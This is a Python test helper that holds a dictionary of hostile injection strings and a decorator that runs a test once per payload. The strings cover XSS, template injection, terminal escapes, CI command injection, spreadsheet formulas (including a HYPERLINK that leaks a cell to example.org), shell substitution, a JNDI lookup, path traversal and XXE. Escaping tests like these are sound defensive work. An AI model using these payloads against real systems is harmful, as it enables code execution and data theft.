"""Cells as spammers write them; each is put wherever a string of the user's data goes."""

from inspect import Signature, signature

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "close script": "</script><script>alert(1)//",
    "close style": "</style><img src=x onerror=alert(1)>",
    "close title": "</title><svg/onload=alert(1)>",
    "close details": "</details></li></ol></main><h1>owned</h1>",
    "attribute": '" onmouseover="alert(1)" x="',
    "single quote": "' autofocus onfocus=alert(1) '",
    "javascript url": '<a href="javascript:alert(1)">x</a>',
    "iframe": '<iframe src="https://example.org/"></iframe>',
    "css url": "<style>body{background:url(https://example.org/a)}</style>",
    "comment": "<!-- --!> <![CDATA[ ]]>",
    "jinja": "{{7*7}}{% for x in y %}{{ config }}{# #}",
    "rich markup": "[bold red]x[/bold red][link=https://example.org]y[/]",
    "rich broken": "[/not open] [",
    "ansi": "\x1b[31mred\x1b[0m\x1b]8;;https://example.org\x07link\x1b]8;;\x07",
    "c1 csi": "\x9b31mred\x9b0m",
    "clear screen": "\x1b[2J\x1b[H",
    "bell backspace": "\x07\x08\x08\x08\x7f",
    "nul": "a\x00b",
    "carriage return": "good\rbad",
    "newlines": "a\nb\r\nc\vd\fe\x85f",
    "u2028": "a\u2028b\u2029c",
    "rtl override": "gpj.\u202eexe",
    "rtl marks": "\u200fabc\u061c\u2067def\u2069",
    "zero width": "a\u200bb\ufeffc\u2060d\u00ade",
    "tags": "a\U000e0041\U000e0042b",
    "workflow command": "::error file=x::owned",
    "workflow newline": "x\n::error::owned",
    "azure command": "##vso[task.setvariable variable=x]y",
    "group": "##[group]x",
    "formula": "=cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "json": '","x":"y\\',
    "emoji": "👩‍👩‍👧 zero‑width joiners stay",
    "persian": "می‌خواهم",
    "hebrew": "שלום עולם",
    "wide": "漢字" * 200,
    "combining": "e" + "\u0301" * 300,
    "backslashes": "\\x1b[31m \\u202e \\n",
    "percent": "%s %d %(x)s {0} {x} $x ${x}",
    "one megabyte": "A<b>&" * 200_000,
    "svg script": "<svg><script>alert(1)</script><animate onbegin=alert(1)></svg>",
    "event": "<img src=x onerror=alert(1)><body onload=alert(1)>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=//example.org"><base href="//example.org">',
    "data url": '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "form": '<form action="https://example.org"><button formaction=javascript:alert(1)>x</form>',
    "entities": "&lt;script&gt;&#60;b&#62;&amp;amp;&#x3c;i>",
    "script state": "<!--<script>",
    "templates": "${7*7} #{7*7} <%= 7 %> {{constructor.constructor('alert(1)')()}} {%raw%}{{x}}{%endraw%}",
    "xml": "]]><x a='1'/><?php ?>",
    "doctype": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
    "noncharacters": "a\ufffeb\uffffc\U0001fffed",
    "nul nul": "\x00\x00",
    "title sequence": "\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x1bP+q\x1b\\",
    "c1 osc": "\x9d0;owned\x9c",
    "percent newline": "%0A::error::x%0D%0A##[error]x",
    "stop commands": "::stop-commands::x\n::add-mask::a",
    "quick action": "/close\n/assign @me",
    "mention": "@octocat @org/team @all",
    "references": "#123 org/repo#4 GH-5 !6 ~label %7 &8 ^alert#9",
    "autolinks": "https://example.org ftp://example.org www.example.org mailto:a@example.org a@example.org",
    "markdown link": "[x](javascript:alert(1)) [y](https://example.org 'z') <https://example.org>",
    "markdown image": "![x](https://example.org/x.png)",
    "markdown definition": "[a]: https://example.org\n\n[a] [^1]\n\n[^1]: x",
    "markdown html": "<b>x</b><details open><summary>owned</summary></details>",
    "markdown blocks": "# owned\n> owned\n- owned\n\n    owned\n***\n===\n```\nowned",
    "markdown emphasis": "**b** __b__ *i* _i_ ~~s~~ ==m==",
    "backticks": "``` `` ` ````",
    "code span": "`x` ``y`` \\`z\\`",
    "backtick at the end": "x`",
    "pipes": "a | b \\| c \\\\| d |",
    "table": "|\n|---|\n| owned |",
    "mathematics": "$x$ $$\\href{javascript:alert(1)}{x}$$ \\(y\\)",
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-1+cmd|' /C calc'!A0",
    "formula return": "\r=1+1",
    "formula wide": "＝1+1",
    "formula in a part": "a;=1+1; @SUM(1);-2+3",
    "formula link": '=HYPERLINK("https://example.org?"&A1,"x")',
    "number": "-1.5e3",
    "csv quotes": 'a","b"\n"=1+1',
    "csv lines": 'x"\r\n=1+1\r\n"',
    "json lines": '"}]}\n{"summary": 1}',
    "shell": "$(id) `id` ; id && id | id > x' \"",
    "lookup": "${jndi:ldap://example.org/x}",
    "path": "../../../etc/passwd",
    "windows path": "..\\..\\CON|NUL:*?.csv",
    "file url": "file:///etc/passwd",
    "long name": "n" * 5000,
    "homograph": "раураl.соm аррӏе ⅼ1Ｉ",
    "spaces": " \xa0 \u3000 x \xa0 ",
}


def for_every_payload(test):
    """Run a test once a payload, as one test; a failure names the payload."""

    def run(**given):
        for name, payload in PAYLOADS.items():
            try:
                test(payload=payload, **given)
            except BaseException as error:
                error.add_note(f"payload: {name}")
                raise

    parameters = [p for p in signature(test).parameters.values() if p.name != "payload"]
    run.__signature__ = Signature(parameters)
    run.__name__, run.__doc__, run.__module__ = test.__name__, test.__doc__, test.__module__
    run.pytestmark = list(getattr(test, "pytestmark", []))
    return run
